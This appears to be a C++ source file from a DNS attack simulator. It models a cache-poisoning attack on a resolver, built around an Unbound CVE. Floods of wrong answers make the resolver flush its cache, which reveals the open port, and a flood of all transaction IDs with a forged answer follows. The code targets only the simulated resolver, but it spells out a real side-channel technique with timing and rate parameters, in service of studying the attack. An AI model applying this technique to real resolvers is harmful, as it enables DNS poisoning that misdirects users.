// A defence that became an oracle (Unbound CVE-2026-109125): the resolver throws its cache away
// when too many wrong answers come in, and only those at an open port count. The attacker watches
// whether a name of his is still remembered.
#include "base/text.h"
#include "world/forging.h"
#include "world/side_channel.h"

namespace wh::world {
namespace {

constexpr TimeUs kWindowUs = 1'900'000;  // the resolver waits two seconds
constexpr TimeUs kFloodUs = 700'000;     // then: all 65,536 IDs at 100,000 a second

dns::Message payload(const Forgery& wish, const dns::Question& question, const std::string& zone) {
    return forged_answer(wish, question, zone);
}

constexpr int kPortsAtOnce = 500;
constexpr TimeUs kRoundUs = 60'000;  // a flood of all of them, then one question

// His own name, which nobody else asks for: is it asked for anew?
bool was_flushed(NameService& dns, TimeUs now) {
    const NameService::Reply reply = dns.ask_as_without_waiting(
        kAttackerAddress, {cat("canary.", kOwnLabel, ".example"), dns::kA, dns::kClassIn}, now);
    return reply.at_us - now > 3 * kAttackerToResolverUs;  // it took a way to his server and back
}

std::uint16_t learn_port(NameService& dns, std::uint16_t first, int count, TimeUs& now,
                         TimeUs until) {
    dns.own_zone(cat(kOwnLabel, ".example"));
    was_flushed(dns, now);
    now += kRoundUs;
    std::uint16_t low = first;
    int left = 0;
    const auto flood = [&](std::uint16_t from, int ports) {
        Datagram wrong{std::string(kAttackerAddress), std::string(kResolverAddress), dns::kDnsPort,
                       0, std::string(12, '\0')};
        for (int i = 0; i < ports; ++i) {
            wrong.destination_port = static_cast<std::uint16_t>(from + i);
            for (std::uint32_t n = 0; n < dns.setup().habits.flush_after; ++n) {
                dns.inject(wrong, now, false);
            }
        }
        const bool flushed = was_flushed(dns, now + 1);
        now += kRoundUs;
        return flushed;
    };
    for (int at = 0; at < count && now < until && left == 0; at += kPortsAtOnce) {
        low = static_cast<std::uint16_t>(first + at);
        if (flood(low, kPortsAtOnce)) left = kPortsAtOnce;
    }
    while (left > 1 && now < until) {
        const int half = left / 2;
        if (flood(low, half)) {
            left = half;
        } else {
            low = static_cast<std::uint16_t>(low + half);
            left -= half;
        }
    }
    return left == 1 ? low : std::uint16_t{0};
}

AttackResult run(const AttackOrder& order, NameService& dns) {
    SideChannel side;
    side.part = "flush-oracle";
    side.learn_port = &learn_port;
    side.window_us = kWindowUs;
    side.flood_us = kFloodUs;
    side.payload = &payload;
    return run_side_channel(order, dns, side);
}

}  // namespace

const Attack& attack_flush_oracle() {
    static constexpr Attack kAttack{
        "flush-oracle",
        "A defence as an oracle",
        "He sends wrong answers to ports until the resolver throws its cache away, which "
        "tells him the open one.",
        "The resolver must flush its cache when wrong answers come in, and the authority be "
        "kept from answering.",
        &run,
        Goal::Poison,
        [](DnsSetup& setup) {
            setup.numbers.fixed_port = 0;
            setup.numbers.port_first = 32'768;
            setup.numbers.port_count = 28'232;
            setup.habits.flush_after = 10;
            setup.rate_limits = true;
        }};
    return kAttack;
}

}  // namespace wh::world
